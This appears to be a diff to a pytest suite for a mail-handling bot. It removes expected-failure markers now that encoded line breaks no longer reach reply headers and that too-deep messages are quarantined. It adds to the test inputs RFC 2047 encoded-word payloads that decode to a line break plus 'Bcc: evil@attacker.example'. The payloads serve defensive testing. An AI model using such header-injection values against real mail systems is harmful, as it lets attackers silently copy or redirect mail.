@@ -35,21 +35,14 @@ REPLY_HEADERS = {
     "content-transfer-encoding", "content-language",
 }  # fmt: skip
 
-# RFC 2047 words that decode to a line break.  reply.header_text strips raw
-# control characters only, and the e-mail package decodes encoded words when
-# a header is set, so these reach a reply's headers: the strict xfail tests
-# below show it; they join NASTY once header_text neutralises them.
+# RFC 2047 words that decode to a line break: the e-mail package decodes
+# encoded words when a header is set, so reply.header_text must neutralise them.
 ENCODED_BREAKS = [
     "=?utf-8?q?Ple=0D=0ABcc:_evil@attacker.example?=",
     "=?utf-8?b?"
     + base64.b64encode(b"Ple\r\nBcc: evil@attacker.example").decode()
     + "?=",
 ]
-INJECTION = pytest.mark.xfail(
-    strict=True,
-    reason="reply.header_text lets RFC 2047 encoded CR/LF into reply headers",
-)
-
 NASTY = [
     "\r\n",
     "\n",
@@ -68,6 +61,7 @@ NASTY = [
     "\x85",
     "é",
     "Ple ordinari",
+    *ENCODED_BREAKS,
 ]
 
 
@@ -331,7 +325,6 @@ def test_summary_with_escaped_line_break_and_bcc_stays_in_the_subject(
     )
 
 
-@INJECTION
 @pytest.mark.parametrize("word", ENCODED_BREAKS)
 def test_summary_with_encoded_line_break_never_reaches_reply_headers(
     tmp_path: Path, word: str
@@ -341,7 +334,6 @@ def test_summary_with_encoded_line_break_never_reaches_reply_headers(
     assert_clean_reply(reply)
 
 
-@INJECTION
 def test_subject_with_doubly_encoded_line_break_never_reaches_reply_headers(
     tmp_path: Path,
 ) -> None:
@@ -362,11 +354,6 @@ def test_subject_with_doubly_encoded_line_break_never_reaches_reply_headers(
     assert_clean_reply(reply)
 
 
-@pytest.mark.xfail(
-    strict=True,
-    reason="pipeline._quarantine re-reads a too-deep message with the same caps,"
-    " gets no envelope, so neither Message-ID nor a reply",
-)
 def test_registered_sender_of_a_too_deep_message_gets_a_short_reply(
     tmp_path: Path,
 ) -> None:
@@ -527,7 +514,7 @@ def test_hostile_messages_over_imap_are_quarantined_or_answered_cleanly(
     assert rows[size["components"]][1] in {"too-large", "too-many-components"}
     assert "booked" == rows[size["summary"]][0]
     received = smtp_sink.received
-    assert ["booked", "quarantined", "quarantined"] == sorted(
+    assert ["booked", "quarantined", "quarantined", "quarantined"] == sorted(
         str(mail.message["X-Mailbot-Outcome"]) for mail in received
     )
     for mail in received:
